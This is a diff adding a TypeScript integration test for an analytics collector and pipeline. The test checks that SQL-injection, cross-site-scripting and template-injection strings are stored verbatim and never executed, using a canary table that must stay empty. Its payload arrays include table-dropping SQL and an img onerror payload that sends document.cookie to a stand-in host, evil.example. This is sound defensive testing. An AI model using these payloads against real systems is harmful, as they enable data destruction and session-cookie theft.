@@ -1,0 +1,124 @@
+// SQL- and script-injection strings travel the real path (collector app -> private Kafka topic ->
+// pipeline -> test database) and are stored byte for byte, never executed: a canary table the
+// strings try to drop or fill is untouched. COPY's own markers (`\.`, `\N`, tabs, newlines) are
+// data too. (That the dashboards' role cannot write is test/grafana/reader-role.test.ts.)
+import { after, before, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { randomUUID } from 'node:crypto';
+import type { FastifyInstance } from 'fastify';
+import type { Kafka } from 'kafkajs';
+import { buildApp } from '../../collector/src/app.ts';
+import { loadCollectorConfig } from '../../collector/src/config.ts';
+import { createKafkaEventProducer, type EventPublisher } from '../../collector/src/kafka/event-producer.ts';
+import { createLogger } from '../../lib/logger.ts';
+import { createPipeline, type Pipeline } from '../../pipeline/src/app.ts';
+import { loadPipelineConfig } from '../../pipeline/src/config.ts';
+import { createTestDatabase, type TestDatabase } from '../support/database.ts';
+import { createTopic, deleteTopics, testKafka } from '../support/kafka.ts';
+import { KAFKA_BROKER } from '../support/services.ts';
+import { waitUntil } from './support.ts';
+
+const SQL = [
+  "'); DROP TABLE canary; --",
+  "' OR '1'='1",
+  "'; INSERT INTO canary VALUES ('owned'); --",
+  '"; DELETE FROM analytics_events; --',
+  "$$; DROP TABLE canary; $$",
+  "1; SELECT pg_sleep(30)",
+  "\\'; TRUNCATE canary; --",
+  "E'\\x27'; DROP TABLE canary",
+];
+const SCRIPT = [
+  '<script>alert(document.cookie)</script>',
+  '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
+  '"><svg/onload=alert(1)>',
+  "javascript:alert('x')",
+  '{{constructor.constructor("alert(1)")()}}',
+  '${7*7} #{7*7} <%= 7*7 %>',
+];
+const COPY_MARKERS = ['\\.', '\\N', 'a\tb', 'line1\nline2\r\n', 'back\\slash', '\\\\.'];
+const ALL = [...SQL, ...SCRIPT, ...COPY_MARKERS];
+
+let kafka: Kafka;
+let topic: string;
+let dlqTopic: string;
+let db: TestDatabase;
+let publisher: EventPublisher;
+let app: FastifyInstance;
+let pipeline: Pipeline;
+
+before(async () => {
+  kafka = await testKafka('reliability-injection');
+  topic = await createTopic(kafka, 'test-injection-events');
+  dlqTopic = await createTopic(kafka, 'test-injection-dlq', 1);
+  db = await createTestDatabase('analytics_test_injection');
+  await db.pool.query('CREATE TABLE canary (v text)');
+  const logger = createLogger('injection-test', 'silent');
+  const config = loadCollectorConfig({ KAFKA_BROKERS: KAFKA_BROKER, KAFKA_TOPIC: topic, RATE_LIMIT_MAX: '0', LOG_LEVEL: 'silent' });
+  publisher = createKafkaEventProducer(config, logger);
+  app = await buildApp({ config, publisher, logger, docs: false });
+  pipeline = createPipeline(
+    loadPipelineConfig({ KAFKA_BROKERS: KAFKA_BROKER, KAFKA_TOPIC: topic, KAFKA_DLQ_TOPIC: dlqTopic, KAFKA_GROUP_ID: `${topic}-group`, DATABASE_URL: db.url, PIPELINE_OPS_PORT: '0', LOG_LEVEL: 'fatal' }),
+    createLogger('injection-test', 'fatal'),
+  );
+  await pipeline.start();
+  await waitUntil('collector ready', () => publisher.isReady());
+});
+
+after(async () => {
+  await app?.close();
+  await publisher?.close();
+  await pipeline?.stop();
+  await deleteTopics(kafka, [topic, dlqTopic]);
+  await db?.drop();
+});
+
+test('injection strings in every free-text field and in metadata are stored verbatim and never executed', async () => {
+  const sent = ALL.map((s, i) => ({
+    event_id: randomUUID(),
+    event_type: 'page_view',
+    page_url: `https://site.example/search?q=${encodeURIComponent(s)}`,
+    page_title: s,
+    button_id: s.slice(0, 100),
+    session_id: s,
+    user_agent: s,
+    site_id: s,
+    metadata: { [s]: s, n: i },
+  }));
+  // A client retries a 503 (a produce slower than PRODUCE_TIMEOUT_MS on a busy machine) with the same events.
+  let res = await app.inject({ method: 'POST', url: '/analytics', headers: { 'content-type': 'text/plain' }, payload: JSON.stringify(sent) });
+  for (let attempt = 1; res.statusCode === 503 && attempt < 20; attempt++) {
+    await new Promise((r) => setTimeout(r, 500));
+    res = await app.inject({ method: 'POST', url: '/analytics', headers: { 'content-type': 'text/plain' }, payload: JSON.stringify(sent) });
+  }
+  assert.equal(res.statusCode, 200, res.body);
+  assert.equal((res.json() as { accepted: number }).accepted, sent.length);
+
+  await waitUntil('all rows stored', async () => (await db.pool.query('SELECT 1 FROM analytics_events')).rowCount === sent.length);
+  const { rows } = await db.pool.query<Record<string, unknown>>(
+    'SELECT event_id::text, page_url, page_title, button_id, session_id, user_agent, site_id, metadata FROM analytics_events',
+  );
+  const byId = new Map(rows.map((r) => [r.event_id as string, r]));
+  for (const e of sent) {
+    const row = byId.get(e.event_id);
+    assert.ok(row, `row for ${JSON.stringify(e.page_title)}`);
+    for (const field of ['page_url', 'page_title', 'button_id', 'session_id', 'user_agent', 'site_id', 'metadata'] as const) {
+      assert.deepEqual(row[field], e[field], `${field} of ${JSON.stringify(e.page_title)} stored verbatim`);
+    }
+  }
+  const canary = await db.pool.query('SELECT v FROM canary');
+  assert.equal(canary.rowCount, 0, 'the canary table exists and nothing was written to it');
+  assert.equal((await db.pool.query('SELECT 1 FROM analytics_events_rejected')).rowCount, 0);
+});
+
+test('a refusal that echoes a hostile field name stays JSON, never HTML', async () => {
+  const res = await app.inject({
+    method: 'POST',
+    url: '/analytics',
+    headers: { 'content-type': 'application/json' },
+    payload: JSON.stringify({ event_type: 'page_view', page_url: 'https://site.example/', '<script>alert(1)</script>': 1 }),
+  });
+  assert.equal(res.statusCode, 400);
+  assert.match(String(res.headers['content-type']), /^application\/json/);
+  assert.ok((res.json() as { errors: { field: string }[] }).errors.some((e) => e.field.includes('<script>')));
+});
